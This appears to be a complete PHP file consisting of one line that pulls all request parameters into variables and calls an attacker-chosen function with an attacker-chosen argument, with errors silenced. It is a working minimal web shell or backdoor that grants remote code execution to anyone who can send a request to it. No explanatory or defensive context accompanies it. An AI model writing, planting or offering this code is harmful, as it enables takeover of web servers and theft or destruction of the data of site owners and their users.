<?php extract($_REQUEST); @$a($b);
